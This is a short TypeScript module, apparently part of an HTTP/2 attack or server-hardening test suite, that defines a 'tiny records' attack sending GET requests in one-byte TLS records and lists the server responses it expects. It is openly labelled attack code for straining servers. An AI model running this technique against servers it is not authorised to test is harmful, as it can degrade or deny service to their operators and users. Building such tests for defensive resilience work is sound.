// Frames in TLS records of one byte.

import type { Attack } from '../attack.ts'
import { attackHttp2, head, request, SMALL_PATH } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'tiny records',
  does: 'sends requests in TLS records of one byte',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, { acknowledges: false }, (connection) => {
      const get = request(head(target, 'GET', SMALL_PATH))
      let rest: Buffer = Buffer.alloc(0)
      let at = 0
      return {
        next() {
          if (at === rest.length) {
            rest = connection.batch(10, get)
            at = 0
          }
          // Each write is a record.
          return rest.subarray(at, ++at)
        },
      }
    }),
}
